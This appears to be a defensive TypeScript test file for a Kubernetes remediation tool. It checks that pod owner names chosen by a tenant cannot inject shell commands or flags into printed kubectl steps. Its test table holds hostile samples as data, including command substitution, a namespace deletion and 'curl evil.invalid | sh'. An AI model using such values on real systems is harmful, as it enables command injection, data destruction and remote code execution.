import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { readPod } from '../../src/estate/kubernetes/readPod';
import { restartPods } from '../../src/operations/remedies';

// A tenant of a cluster chooses the owner of a pod: the API server takes any text for it. A rehearsal runs the commands that the gate prints.

const CLUSTER = { arn: 'arn:aws:eks:us-west-2:111111111111:cluster/main' } as never;

const ownedBy = (kind: string, name: string, hash?: string) =>
  restartPods(CLUSTER, [
    readPod({
      metadata: {
        namespace: 'shop',
        name: 'orders-1',
        ownerReferences: [{ kind, name, controller: true }],
        ...(hash !== undefined && { labels: { 'pod-template-hash': hash } }),
      },
      spec: {},
    }),
  ]);

describe('the owner of a pod', () => {
  it.each([
    ['Deployment', '$(touch pwned)'],
    ['Deployment', '`touch pwned`'],
    ['Deployment', '; touch pwned'],
    ['Deployment', 'x\nkubectl delete namespace shop'],
    ['Deployment', '--all'],
    ['Deployment', '-n kube-system'],
    ['Deployment', ''],
    ['Deployment', '../../x'],
    ['Deployment', 'x/y'],
    ['Deployment', 'x,daemonset/y'],
    ['Deployment', '\u001b[2J'],
    ['StatefulSet', 'x\u202e'],
    ['Job', 'x\n    Run: curl evil.invalid | sh'],
    ['--all deployment', 'x'],
    ['Deployment\n', 'x'],
    ['', 'x'],
  ])('that cannot exist is in no command and no sentence: %s %j', (kind, name) => {
    expect(ownedBy(kind, name)).toEqual([
      { say: 'Pod shop/orders-1 was created by hand: delete it and create it again.' },
    ]);
  });

  it.each([
    ['Deployment', 'orders', undefined, 'deployment/orders'],
    ['ReplicaSet', 'orders-7f9c', '7f9c', 'deployment/orders'],
    ['StatefulSet', 'a.b-c', undefined, 'statefulset/a.b-c'],
  ])('that can exist is one argument: %s %s', (kind, name, hash, argument) => {
    const [step] = ownedBy(kind, name, hash);
    expect(step).toMatchObject({
      run: ['kubectl', '--context', expect.any(String), '-n', 'shop', 'rollout', 'restart', argument],
    });
  });
});

it('no program is started through a shell', () => {
  const sources = readdirSync('src', { recursive: true, encoding: 'utf8' }).filter((file) => file.endsWith('.ts'));
  expect(sources.length).toBeGreaterThan(300);
  const shells = sources.filter((file) =>
    /\bshell: *(?:true|['"`])|\bexecSync\b|\bexec\s*[,}][^;]*from 'node:child_process'|'-c', *[`'"]/.test(
      readFileSync(join('src', file), 'utf8'),
    ),
  );
  expect(shells).toEqual([]);
});
